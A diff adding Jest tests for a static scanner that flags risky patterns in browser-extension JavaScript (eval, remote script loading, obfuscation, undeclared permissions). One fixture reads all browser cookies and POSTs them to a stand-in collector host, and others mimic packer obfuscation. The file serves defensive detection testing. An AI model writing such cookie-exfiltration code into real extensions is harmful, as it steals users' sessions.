@@ -0,0 +1,163 @@
+/**
+ * Tests for the static JavaScript code scanner
+ */
+
+import { scanFile, scanFiles, isScannableFile } from '../code-scanner';
+import type { AnalysisIssue } from '../manifest-analyzer';
+
+function codes(issues: AnalysisIssue[]): string[] {
+  return issues.map((issue) => issue.code);
+}
+
+function find(issues: AnalysisIssue[], code: string): AnalysisIssue | undefined {
+  return issues.find((issue) => issue.code === code);
+}
+
+describe('Code Scanner', () => {
+  describe('isScannableFile', () => {
+    it('should accept JavaScript and HTML sources', () => {
+      expect(isScannableFile('background.js')).toBe(true);
+      expect(isScannableFile('lib/module.mjs')).toBe(true);
+      expect(isScannableFile('popup.html')).toBe(true);
+      expect(isScannableFile('icons/icon.png')).toBe(false);
+      expect(isScannableFile('styles.css')).toBe(false);
+    });
+  });
+
+  describe('scanFile', () => {
+    it('should report dynamic code execution with file and line', () => {
+      const { issues } = scanFile({
+        path: 'background.js',
+        content: ['const a = 1;', 'eval(payload);', 'const f = new Function("return 1");', "setTimeout('run()', 10);"].join('\n'),
+      });
+
+      expect(find(issues, 'JS_EVAL')).toMatchObject({ file: 'background.js', line: 2, severity: 'high' });
+      expect(find(issues, 'JS_NEW_FUNCTION')?.line).toBe(3);
+      expect(find(issues, 'JS_STRING_TIMER')?.line).toBe(4);
+    });
+
+    it('should not flag method calls named eval or callback timers', () => {
+      const { issues } = scanFile({
+        path: 'content.js',
+        content: ['interpreter.eval(x);', 'setTimeout(() => run(), 10);'].join('\n'),
+      });
+
+      expect(issues).toHaveLength(0);
+    });
+
+    it('should skip comment lines', () => {
+      const { issues } = scanFile({
+        path: 'content.js',
+        content: ['// eval(payload);', '/* new Function("x") */', ' * document.write(html)'].join('\n'),
+      });
+
+      expect(issues).toHaveLength(0);
+    });
+
+    it('should scan code that follows a comment on the same line', () => {
+      const { issues } = scanFile({
+        path: 'vendor.min.js',
+        content: ['/*! lib v1.2.3 | MIT */!function(){eval(payload)}();', '/* eval(docs) */', ' */ document.write(html);'].join('\n'),
+      });
+
+      expect(issues.filter((issue) => issue.code === 'JS_EVAL').map((issue) => issue.line)).toEqual([1]);
+      expect(find(issues, 'JS_DOCUMENT_WRITE')?.line).toBe(3);
+    });
+
+    it('should report remote code loading', () => {
+      const { issues } = scanFile({
+        path: 'background.js',
+        content: [
+          "importScripts('https://cdn.example.com/lib.js');",
+          "const mod = await import('https://cdn.example.com/mod.js');",
+          "script.src = 'https://cdn.example.com/inject.js';",
+        ].join('\n'),
+      });
+
+      expect(codes(issues)).toEqual(['REMOTE_IMPORT_SCRIPTS', 'REMOTE_IMPORT', 'REMOTE_SCRIPT_SRC']);
+    });
+
+    it('should report remote scripts in HTML pages only with HTML rules', () => {
+      const { issues } = scanFile({
+        path: 'popup.html',
+        content: '<html>\n<script src="https://cdn.example.com/app.js"></script>\n<p>eval(x)</p>\n</html>',
+      });
+
+      expect(codes(issues)).toEqual(['REMOTE_SCRIPT_TAG']);
+      expect(issues[0].line).toBe(2);
+    });
+
+    it('should report obfuscation markers', () => {
+      const hexNames = Array.from({ length: 25 }, (_, i) => `_0x${(0xa000 + i).toString(16)}`).join(',');
+      const { issues } = scanFile({
+        path: 'obf.js',
+        content: [
+          'var x = 1;',
+          `var ${hexNames};`,
+          "eval(function(p,a,c,k,e,d){return p}('0',0,0,''.split('|'),0,{}));",
+          `var s = "${'\\x41'.repeat(20)}";`,
+        ].join('\n'),
+      });
+
+      expect(find(issues, 'OBFUSCATION_HEX_IDENTIFIERS')?.line).toBe(2);
+      expect(find(issues, 'OBFUSCATION_PACKER')?.line).toBe(3);
+      expect(find(issues, 'OBFUSCATION_ESCAPES')?.line).toBe(4);
+    });
+
+    it('should flag sensitive sources combined with network sinks', () => {
+      const { issues } = scanFile({
+        path: 'background.js',
+        content: [
+          'chrome.cookies.getAll({}, (cookies) => {',
+          "  fetch('https://collector.example.com', { method: 'POST', body: JSON.stringify(cookies) });",
+          '});',
+        ].join('\n'),
+      });
+
+      expect(find(issues, 'EXFILTRATION_RISK')).toMatchObject({ severity: 'high', line: 2 });
+      expect(find(issues, 'SINK_REMOTE_FETCH')?.line).toBe(2);
+    });
+  });
+
+  describe('scanFiles', () => {
+    it('should report chrome.* APIs used without a declared permission', () => {
+      const issues = scanFiles(
+        [{ path: 'background.js', content: 'chrome.storage.local.get();\nchrome.alarms.create("x", {});' }],
+        { manifest_version: 3, permissions: ['storage'] }
+      );
+
+      const missing = find(issues, 'API_PERMISSION_MISSING');
+      expect(missing?.message).toContain('"alarms"');
+      expect(missing?.line).toBe(2);
+      expect(issues.filter((issue) => issue.code === 'API_PERMISSION_MISSING')).toHaveLength(1);
+    });
+
+    it('should treat optional permissions as declared', () => {
+      const issues = scanFiles(
+        [{ path: 'background.js', content: 'chrome.history.search({ text: "" });' }],
+        { manifest_version: 3, optional_permissions: ['history'] }
+      );
+
+      expect(codes(issues)).not.toContain('API_PERMISSION_MISSING');
+      expect(find(issues, 'API_SENSITIVE_USAGE')).toMatchObject({ type: 'info', severity: 'high' });
+    });
+
+    it('should report declared permissions that are never used', () => {
+      const issues = scanFiles(
+        [{ path: 'background.js', content: 'chrome.runtime.onInstalled.addListener(() => {});' }],
+        { manifest_version: 3, permissions: ['storage', 'activeTab'] }
+      );
+
+      const unused = issues.filter((issue) => issue.code === 'PERMISSION_UNUSED');
+      expect(unused).toHaveLength(1);
+      expect(unused[0]).toMatchObject({ file: 'manifest.json', type: 'info' });
+      expect(unused[0].message).toContain('"storage"');
+    });
+
+    it('should ignore non-source files', () => {
+      const issues = scanFiles([{ path: 'data/rules.json', content: '{"eval(": 1}' }], null);
+
+      expect(issues).toHaveLength(0);
+    });
+  });
+});